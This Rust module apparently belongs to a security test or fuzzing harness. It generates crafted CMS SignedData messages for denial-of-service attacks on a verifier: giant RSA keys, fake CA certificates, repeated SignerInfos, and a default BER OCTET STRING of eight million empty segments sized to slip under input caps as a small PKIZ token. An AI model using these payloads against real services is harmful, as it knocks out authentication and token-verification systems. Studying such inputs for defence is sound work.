//! The message recipe every attack class fills in: keys, content, BER shapes,
//! nesting, and the certificates and SignerInfos a [`Recipe`] assembles.

use crate::der::{self, tag};
use crate::Sid;

/// An RSA public key of a chosen size: the modulus is `modulus_bytes` bytes
/// of 0xFF (odd, top bit set, compressing to nothing), varied by `index` in
/// two middle bytes so that keys differ; the exponent is `exponent`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RsaKey {
    /// Modulus length in bytes (131072 bytes is 1 Mibit).
    pub modulus_bytes: usize,
    /// Public exponent, big-endian.
    pub exponent: Vec<u8>,
}

impl RsaKey {
    /// A key with exponent 65537.
    pub fn new(modulus_bytes: usize) -> Self {
        Self {
            modulus_bytes,
            exponent: vec![1, 0, 1],
        }
    }

    /// The modulus of the `index`-th key of this shape.
    pub(crate) fn modulus(&self, index: usize) -> Vec<u8> {
        let mut n = vec![0xFF; self.modulus_bytes.max(1)];
        let tag = u16::try_from(index % 0xFFFF).unwrap_or(0).to_be_bytes();
        if n.len() >= 4 {
            let at = n.len() - 3;
            n[at] ^= tag[0];
            n[at + 1] ^= tag[1];
        }
        n
    }

    /// The SubjectPublicKeyInfo of the `index`-th key of this shape.
    fn spki(&self, index: usize) -> Vec<u8> {
        let key = der::seq(&[&der::uint(&self.modulus(index)), &der::uint(&self.exponent)]);
        der::seq(&[&algorithm(RSA_ENCRYPTION, true), &der::bit_string(&key)])
    }
}

/// The encapsulated content (`eContent`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Content {
    /// A primitive OCTET STRING with these bytes.
    Octets(Vec<u8>),
    /// Nested constructed indefinite-length OCTET STRINGs (BER).
    Ber(BerShape),
}

/// The tree of a BER constructed OCTET STRING: `depth` levels of
/// indefinite-length constructed OCTET STRINGs, each holding `fan_out`
/// constructed children, and at the last level `segments` empty primitive
/// segments (`04 00`) each. Total segments: `fan_out^(depth-1) * segments`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BerShape {
    /// Levels of constructed strings (at least 1).
    pub depth: usize,
    /// Constructed children per constructed string above the last level.
    pub fan_out: usize,
    /// Empty primitive segments in each string of the last level.
    pub segments: usize,
}

impl BerShape {
    /// The attack size: 50 levels (cmsverify's nesting limit is 64 and the
    /// string starts at depth 5), one chain, 8,000,000 empty segments: a
    /// 16,000,426-byte message (under the 16 MiB input and inflation caps)
    /// whose PKIZ token is about 22 KB.
    pub const DEFAULT: Self = Self {
        depth: 50,
        fan_out: 1,
        segments: 8_000_000,
    };

    /// The encoded constructed OCTET STRING.
    pub fn encode(&self) -> Vec<u8> {
        let open = [tag::OCTET_STRING_CONSTRUCTED, 0x80];
        let mut s = Vec::with_capacity(4 + 2 * self.segments);
        s.extend_from_slice(&open);
        for _ in 0..self.segments {
            s.extend_from_slice(&[tag::OCTET_STRING, 0]);
        }
        s.extend_from_slice(&[0, 0]);
        for _ in 1..self.depth {
            let mut up = Vec::with_capacity(4 + s.len() * self.fan_out);
            up.extend_from_slice(&open);
            for _ in 0..self.fan_out {
                up.extend_from_slice(&s);
            }
            up.extend_from_slice(&[0, 0]);
            s = up;
        }
        s
    }
}

/// A deeply nested element: `depth` SEQUENCEs around a NULL, with definite
/// lengths (DER) or BER's indefinite form (4 bytes a level).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Nesting {
    /// Number of nested SEQUENCEs.
    pub depth: usize,
    /// Indefinite lengths (`30 80 ... 00 00`) instead of definite ones.
    pub indefinite: bool,
}

impl Nesting {
    /// The encoded element, built without recursion.
    pub fn encode(&self) -> Vec<u8> {
        let inner = [tag::NULL, 0];
        if self.indefinite {
            let mut out = Vec::with_capacity(4 * self.depth + 2);
            for _ in 0..self.depth {
                out.extend_from_slice(&[tag::SEQUENCE, 0x80]);
            }
            out.extend_from_slice(&inner);
            out.resize(out.len() + 2 * self.depth, 0);
            return out;
        }
        // Content lengths from the innermost SEQUENCE outwards.
        let mut lens = Vec::with_capacity(self.depth);
        let mut len = inner.len();
        for _ in 0..self.depth {
            lens.push(len);
            len += 1 + der::length(len).len();
        }
        let mut out = Vec::with_capacity(len);
        for &l in lens.iter().rev() {
            out.push(tag::SEQUENCE);
            out.extend(der::length(l));
        }
        out.extend_from_slice(&inner);
        out
    }
}

/// Every knob of a message; each attack class is a preset. The fuzz target
/// fills one from its input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Recipe {
    /// The signer every SignerInfo names.
    pub sid: Sid,
    /// Embedded certificates matching `sid` (same issuer and serial, distinct
    /// subjects), signed with sha256WithRSAEncryption by `sid`'s issuer.
    pub candidates: usize,
    /// Embedded self-issued certificates whose subject is `sid`'s issuer, one
    /// per key: every candidate's possible issuers.
    pub issuers: Vec<RsaKey>,
    /// Small unrelated embedded certificates (Ed25519 keys, distinct serials).
    pub fillers: usize,
    /// Copies of the SignerInfo.
    pub signer_infos: usize,
    /// `None`: no signed attributes. `Some(n)`: contentType, messageDigest
    /// and `n` more attributes.
    pub signed_attributes: Option<usize>,
    /// An unsigned attribute holding this nested value.
    pub nested_attribute: Option<Nesting>,
    /// The encapsulated content.
    pub content: Content,
}

impl Default for Recipe {
    /// One SignerInfo for [`Sid::default`], a short content, nothing else.
    fn default() -> Self {
        Self {
            sid: Sid::default(),
            candidates: 0,
            issuers: Vec::new(),
            fillers: 0,
            signer_infos: 1,
            signed_attributes: None,
            nested_attribute: None,
            content: Content::Octets(b"{\"token\": \"attack\"}".to_vec()),
        }
    }
}

pub(crate) const SIGNED_DATA: &[u64] = &[1, 2, 840, 113549, 1, 7, 2];
const DATA: &[u64] = &[1, 2, 840, 113549, 1, 7, 1];
const SHA256: &[u64] = &[2, 16, 840, 1, 101, 3, 4, 2, 1];
const RSA_ENCRYPTION: &[u64] = &[1, 2, 840, 113549, 1, 1, 1];
const SHA256_WITH_RSA: &[u64] = &[1, 2, 840, 113549, 1, 1, 11];
const ED25519: &[u64] = &[1, 3, 101, 112];
const CONTENT_TYPE: &[u64] = &[1, 2, 840, 113549, 1, 9, 3];
const MESSAGE_DIGEST: &[u64] = &[1, 2, 840, 113549, 1, 9, 4];
/// Arc under which the extra attributes are numbered (a private enterprise arc).
const EXTRA_ATTRIBUTE: &[u64] = &[1, 3, 6, 1, 4, 1, 55555];
const COMMON_NAME: &[u64] = &[2, 5, 4, 3];

/// An AlgorithmIdentifier, with NULL parameters when `null`.
fn algorithm(arcs: &[u64], null: bool) -> Vec<u8> {
    if null {
        der::seq(&[&der::oid(arcs), &[tag::NULL, 0]])
    } else {
        der::seq(&[&der::oid(arcs)])
    }
}

/// The DER Name `CN=<cn>`.
pub fn name(cn: &str) -> Vec<u8> {
    let atv = der::seq(&[
        &der::oid(COMMON_NAME),
        &der::tlv(tag::UTF8_STRING, cn.as_bytes()),
    ]);
    der::seq(&[&der::set(&[&atv])])
}

/// The fields of one embedded certificate.
struct CertFields<'a> {
    serial: &'a [u8],
    issuer: &'a [u8],
    subject: &'a [u8],
    spki: &'a [u8],
    signature_algorithm: &'a [u64],
    signature_len: usize,
    /// Whether it claims to be a CA (critical basicConstraints CA:TRUE), so
    /// that a verifier's cheap issuer checks pass and only key work remains.
    ca: bool,
}

/// `[3] { Extension { basicConstraints, critical, { cA TRUE } } }`.
fn ca_extensions() -> Vec<u8> {
    let boolean_true = der::tlv(0x01, &[0xFF]);
    let basic_constraints = der::seq(&[
        &der::tlv(tag::OID, &[0x55, 0x1D, 0x13]),
        &boolean_true,
        &der::tlv(tag::OCTET_STRING, &der::seq(&[&boolean_true])),
    ]);
    der::tlv(0xA3, &der::seq(&[&basic_constraints]))
}

/// A v3 certificate (extensions only for CAs), valid 2000 to 2049, whose signature
/// is `signature_len` bytes of 0x5A (below any 0xFF... modulus).
fn certificate(f: &CertFields<'_>) -> Vec<u8> {
    let rsa = f.signature_algorithm == SHA256_WITH_RSA;
    let sig_alg = algorithm(f.signature_algorithm, rsa);
    let validity = der::seq(&[
        &der::tlv(tag::UTC_TIME, b"000101000000Z"),
        &der::tlv(tag::UTC_TIME, b"491231235959Z"),
    ]);
    let extensions = if f.ca { ca_extensions() } else { Vec::new() };
    let tbs = der::seq(&[
        &der::tlv(tag::CTX0, &der::uint(&[2])),
        &der::uint(f.serial),
        &sig_alg,
        f.issuer,
        &validity,
        f.subject,
        f.spki,
        &extensions,
    ]);
    der::seq(&[
        &tbs,
        &sig_alg,
        &der::bit_string(&vec![0x5A; f.signature_len]),
    ])
}

impl Recipe {
    /// The embedded certificates, candidates first, then issuers, then fillers.
    fn certificates(&self) -> Vec<Vec<u8>> {
        let signature_len = self
            .issuers
            .iter()
            .map(|k| k.modulus_bytes)
            .min()
            .unwrap_or(256)
            .clamp(1, 2048);
        let candidate_key = RsaKey::new(256).spki(0);
        let mut certs = Vec::with_capacity(self.candidates + self.issuers.len() + self.fillers);
        for i in 0..self.candidates {
            certs.push(certificate(&CertFields {
                serial: &self.sid.serial,
                issuer: &self.sid.issuer,
                subject: &name(&format!("candidate {i}")),
                spki: &candidate_key,
                signature_algorithm: SHA256_WITH_RSA,
                signature_len,
                ca: false,
            }));
        }
        for (i, key) in self.issuers.iter().enumerate() {
            let serial = (u64::try_from(i).unwrap_or(0) + 0x1_0000).to_be_bytes();
            certs.push(certificate(&CertFields {
                serial: &serial,
                issuer: &self.sid.issuer,
                subject: &self.sid.issuer,
                spki: &key.spki(i),
                signature_algorithm: SHA256_WITH_RSA,
                signature_len: 64,
                ca: true,
            }));
        }
        let filler_name = name("filler");
        let filler_key = der::seq(&[&algorithm(ED25519, false), &der::bit_string(&[0x11; 32])]);
        for i in 0..self.fillers {
            let serial = (u64::try_from(i).unwrap_or(0) + 0x100_0000).to_be_bytes();
            certs.push(certificate(&CertFields {
                serial: &serial,
                issuer: &filler_name,
                subject: &filler_name,
                spki: &filler_key,
                signature_algorithm: ED25519,
                signature_len: 64,
                ca: false,
            }));
        }
        certs
    }

    /// The SignerInfo every copy repeats.
    fn signer_info(&self) -> Vec<u8> {
        let sid = der::seq(&[&self.sid.issuer, &der::uint(&self.sid.serial)]);
        let signed = self.signed_attributes.map(|extra| {
            let mut attrs = vec![
                attribute(&der::oid(CONTENT_TYPE), &der::oid(DATA)),
                attribute(&der::oid(MESSAGE_DIGEST), &der::octets(&[0; 32])),
            ];
            for i in 0..extra {
                let mut arcs = EXTRA_ATTRIBUTE.to_vec();
                arcs.push(u64::try_from(i).unwrap_or(0));
                attrs.push(attribute(&der::oid(&arcs), &[tag::NULL, 0]));
            }
            der::tlv(tag::CTX0, &attrs.concat())
        });
        let unsigned = self.nested_attribute.map(|n| {
            let mut arcs = EXTRA_ATTRIBUTE.to_vec();
            arcs.push(0);
            der::tlv(0xA1, &attribute(&der::oid(&arcs), &n.encode()))
        });
        der::seq(&[
            &der::uint(&[1]),
            &sid,
            &algorithm(SHA256, false),
            signed.as_deref().unwrap_or_default(),
            &algorithm(SHA256_WITH_RSA, true),
            &der::octets(&[0x5A; 256]),
            unsigned.as_deref().unwrap_or_default(),
        ])
    }

    /// The ContentInfo (DER unless the content or nesting is BER).
    pub fn build(&self) -> Vec<u8> {
        let content = match &self.content {
            Content::Octets(bytes) => der::octets(bytes),
            Content::Ber(shape) => shape.encode(),
        };
        let encap = der::seq(&[&der::oid(DATA), &der::tlv(tag::CTX0, &content)]);
        let certs = self.certificates();
        let certs = if certs.is_empty() {
            Vec::new()
        } else {
            der::tlv(tag::CTX0, &certs.concat())
        };
        let signer_info = self.signer_info();
        let signer_infos = der::tlv(tag::SET, &signer_info.repeat(self.signer_infos));
        let signed_data = der::seq(&[
            &der::uint(&[1]),
            &der::set(&[&algorithm(SHA256, false)]),
            &encap,
            &certs,
            &signer_infos,
        ]);
        der::seq(&[&der::oid(SIGNED_DATA), &der::tlv(tag::CTX0, &signed_data)])
    }
}

/// One Attribute with a single value.
fn attribute(oid: &[u8], value: &[u8]) -> Vec<u8> {
    der::seq(&[oid, &der::set(&[value])])
}
